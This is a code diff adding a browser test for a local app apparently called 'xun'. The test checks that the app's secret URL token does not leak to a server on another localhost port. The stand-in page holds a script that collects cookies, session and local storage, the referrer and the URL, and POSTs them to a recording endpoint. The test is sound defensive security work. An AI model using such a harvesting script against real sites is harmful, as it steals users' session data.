@@ -25,6 +25,7 @@ import subprocess
 import sys
 import threading
 import time
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import pytest
@@ -263,6 +264,152 @@ def test_the_app_works_in_headless_chromium_and_ctrl_c_stops_it(tmp_path: Path, 
             except ProcessLookupError:
                 pass
     assert not left, f"processes left running (now killed): {left}"
+
+
+RECORDER_PAGE = b"""<!DOCTYPE html><html><head><title>another local server</title></head><body>
+<p>another server on 127.0.0.1</p>
+<script>
+  /* what a page of another local port can see of xun's secret: its cookies, storage and referrer */
+  const seen = {cookie: document.cookie, session: {...window.sessionStorage}, local: {...window.localStorage},
+                referrer: document.referrer, href: window.location.href};
+  fetch("/report", {method: "POST", body: JSON.stringify(seen)});
+</script></body></html>"""
+
+
+class _Recorder(ThreadingHTTPServer):
+    """Another local server, on another port of 127.0.0.1 (another user's, say): it keeps every request it
+    gets (method, path with query, headers with Cookie, body), and its page reports what its script sees."""
+
+    def __init__(self) -> None:
+        self.requests: list[dict] = []
+        recorder = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def _record(self) -> None:
+                length = int(self.headers.get("Content-Length") or 0)
+                recorder.requests.append({"method": self.command, "path": self.path, "headers": self.headers.items(),
+                                          "body": self.rfile.read(length).decode("utf-8", "replace")})
+                page = RECORDER_PAGE if self.path == "/" else b"ok"
+                self.send_response(200)
+                self.send_header("Content-Type", "text/html" if self.path == "/" else "text/plain")
+                self.send_header("Content-Length", str(len(page)))
+                self.end_headers()
+                self.wfile.write(page)
+
+            do_GET = do_POST = do_HEAD = _record
+
+            def log_message(self, *args) -> None:
+                pass
+
+        super().__init__(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server_address[1]}/"
+        threading.Thread(target=self.serve_forever, daemon=True).start()
+
+    def seen(self, timeout: float) -> bool:
+        """Whether its page's report came (its script ran) within `timeout` seconds."""
+        deadline = time.monotonic() + timeout
+        while time.monotonic() < deadline:
+            if any(request["path"] == "/report" for request in list(self.requests)):
+                return True
+            time.sleep(0.1)
+        return False
+
+
+def test_the_token_stays_with_its_port_in_headless_chromium(tmp_path: Path, workspace):
+    """Issue 22.3: the browser that opened the secret URL hands nothing of it to another port of 127.0.0.1.
+    The same tab (same profile) opens the app, types into it, leaves for a recording server on another port
+    as a link would, and comes back to the bare URL, where the app works again without the token in it."""
+    chromium = _chromium()
+    node = _playwright()
+    workdir, env = workspace
+    port = _free_port()
+    user_data = tmp_path / "chromium-profile"
+    user_data.mkdir()
+    shot = tmp_path / "screen.png"
+    deadline = time.monotonic() + 2 * BUDGET
+
+    def left(most: float) -> float:
+        return max(0.5, min(most, deadline - time.monotonic()))
+
+    def ask(command: dict, wait: float) -> dict:
+        browser.stdin.write(json.dumps(command) + "\n")
+        browser.stdin.flush()
+        line = _wait_for(page, page_out, lambda line: line.startswith("{"), left(wait))
+        assert line is not None, f"no answer to {command}: {page_out} {browser_err.text(wait=1)}"
+        return json.loads(line)
+
+    recorder = _Recorder()
+    server = browser = None
+    out: queue.Queue[str | None] = queue.Queue()
+    page: queue.Queue[str | None] = queue.Queue()
+    server_out: list[str] = []
+    page_out: list[str] = []
+    try:
+        server = subprocess.Popen([sys.executable, "-m", "xun", "serve", "--offline", "--port", str(port)],
+                                  cwd=workdir, env=env, stdin=subprocess.DEVNULL, stdout=subprocess.PIPE,
+                                  stderr=subprocess.PIPE, text=True, start_new_session=True)
+        _lines(server.stdout, out)
+        server_err = _Collected(server.stderr)
+        ready = _wait_for(out, server_out, lambda line: "serving the app at" in line, left(20))
+        assert ready is not None, f"the server did not start: {server_out} {server_err.text(wait=1)}"
+        secret_url = ready.split("serving the app at ", 1)[1].split()[0]
+        token = secret_url.split("?token=", 1)[1]
+        bare_url = f"http://127.0.0.1:{port}/"
+
+        browser = subprocess.Popen([node, str(SCRIPT), secret_url, str(user_data), str(shot), GAUGE_TITLE, OFFLINE_BADGE],
+                                   cwd=HERE, env={**env, "XUN_CHROMIUM": chromium}, stdin=subprocess.PIPE,
+                                   stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, start_new_session=True)
+        _lines(browser.stdout, page)
+        browser_err = _Collected(browser.stderr)
+        line = _wait_for(page, page_out, lambda line: line.startswith("{"), left(45))
+        assert line is not None, f"no screen from the browser: {page_out} {browser_err.text(wait=1)}"
+        first = json.loads(line)
+        assert first["found"], f"missing {first['missing']} on the screen:\n" + "\n".join(first["lines"])
+        state = ask({"state": True}, 10)
+        typed = ask({"type": PROMPT, "wait": REPLY}, 30)
+        assert typed["found"], "the offline model's reply did not show:\n" + "\n".join(typed["lines"])
+
+        went = ask({"goto": recorder.url}, 20)  # as a link on the app's page would
+        assert went["url"] == recorder.url, went
+        assert recorder.seen(10), f"the other server's page did not report: {recorder.requests}"
+        back = ask({"goto": bare_url, "expect": [GAUGE_TITLE, OFFLINE_BADGE]}, 45)  # the same tab, no token in the URL
+        assert back["found"], f"the app did not come back at {bare_url}:\n" + "\n".join(back.get("lines", []))
+        again = ask({"type": PROMPT, "wait": REPLY}, 30)
+        assert again["found"], "a key did not reach the app after coming back:\n" + "\n".join(again["lines"])
+        later = ask({"state": True}, 10)
+
+        received = json.dumps(recorder.requests)
+        assert token not in received, f"the other port received the token: {recorder.requests}"
+        assert "xun-serve-token" not in received, recorder.requests
+        report = json.loads(next(r["body"] for r in recorder.requests if r["path"] == "/report"))
+        assert report["cookie"] == "" and report["session"] == {} and report["local"] == {}, report
+        assert report["referrer"] == "", report  # not even the app's address
+        assert {r["path"] for r in recorder.requests} >= {"/", "/report"}, recorder.requests
+        for seen in (state, later):  # the token is in no cookie, nor in the address bar, only in the tab's storage
+            assert token not in json.dumps(seen["cookies"]), seen
+            assert seen["url"] == bare_url, seen
+            assert token in seen["session"].values(), seen
+
+        server.send_signal(signal.SIGINT)
+        assert server.wait(timeout=left(20)) == 0
+        errors = server_err.text(wait=5)
+        assert token not in errors and "Traceback" not in errors, errors
+        browser.stdin.close()
+        line = _wait_for(page, page_out, lambda line: line.startswith("{"), left(20))
+        assert line is not None and json.loads(line)["closed"], page_out
+        assert browser.wait(timeout=left(15)) == 0, browser_err.text(wait=5)
+    finally:
+        recorder.shutdown()
+        recorder.server_close()
+        _kill(browser)
+        _kill(server)
+        remaining = _processes_mentioning(str(tmp_path))
+        for pid in remaining:
+            try:
+                os.kill(pid, signal.SIGKILL)
+            except ProcessLookupError:
+                pass
+    assert not remaining, f"processes left running (now killed): {remaining}"
 
 
 # ---------------------------------------------------------------------------------------- the command
